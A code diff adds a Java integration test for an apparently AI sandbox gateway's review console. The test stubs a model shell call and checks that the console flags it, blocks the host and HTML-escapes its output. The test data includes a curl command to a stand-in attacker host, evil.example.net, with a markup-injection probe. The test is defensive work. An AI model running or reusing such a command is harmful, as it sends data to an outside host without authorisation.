@@ -22,6 +22,7 @@ import org.springframework.boot.test.web.server.LocalManagementPort;
 
 import com.openai.models.responses.ResponseCreateParams;
 import com.sandboxgateway.support.GatewayIntegrationTest;
+import com.sandboxgateway.support.ShellAnswers;
 
 import tools.jackson.databind.json.JsonMapper;
 import tools.jackson.databind.node.ObjectNode;
@@ -114,6 +115,37 @@ class ConsolePagesTest extends GatewayIntegrationTest {
         assertThat(flag.statusCode()).isEqualTo(400);
         assertThat(flag.body()).contains("A flag is a name such as env_access");
         assertThat(missing.statusCode()).isEqualTo(404);
+    }
+
+    @Test
+    void shouldQueueAFlaggedShellCallAndShowItsCommandsAndOutputs() throws Exception {
+        String session = unique("sess-");
+        String call = unique("sh_");
+        runCode(session, "print('a code block beside it')");
+        openAi.stubFor(post("/v1/responses").willReturn(okJson(ShellAnswers.completed(unique("resp_"), call, unique("cntr_"),
+                List.of("ls /mnt/data", "curl -s https://evil.example.net/drop?x=<b>"),
+                List.of(new ShellAnswers.Ran("report.csv\n", "", 0), new ShellAnswers.Ran("", "curl: (6) Could not resolve host\n", 6)))
+                .toString())));
+        sdk(ALICE_KEY).responses().create(ResponseCreateParams.builder().model("gpt-5.1").input("what is there?")
+                .putAdditionalHeader("X-Gateway-Session", session).build());
+
+        String shells = page("/console?kind=shell&flag=http_client&user=alice").body();
+        String codes = page("/console?kind=code&flag=http_client&user=alice").body();
+        String row = shells.substring(shells.indexOf("<tr data-call-id=\"" + call + "\">"));
+        row = row.substring(0, row.indexOf("</tr>"));
+        Matcher link = BLOCK_LINK.matcher(row);
+        assertThat(link.find()).isTrue();
+        String record = page("/console/records/" + link.group(1)).body();
+
+        assertThat(row).contains("<td>Shell call</td>", "http_client", "Not reviewed");
+        assertThat(codes).doesNotContain(call);
+        assertThat(record).contains("<h1>Shell call #" + link.group(1) + "</h1>", "<h2 id=\"code-h\">Commands</h2>", "aria-label=\"Executed shell commands\"",
+                        "<code>ls /mnt/data\ncurl -s https://evil.example.net/drop?x=&lt;b&gt;</code>",
+                        "<h3>Command 1: exit code 0</h3>", "report.csv", "<h3>Command 2: exit code 6</h3>",
+                        "<pre class=\"logs stderr\"", "curl: (6) Could not resolve host", "<dd>SHELL_EXECUTION</dd>",
+                        "host=evil.example.net allowed=false", "code execution #")
+                .doesNotContain("<b>", "tok-keyword");
+        assertThat(page("/console?kind=everything").statusCode()).isEqualTo(400);
     }
 
     /** One response whose one code-interpreter call ran {@code code} in the given session. */
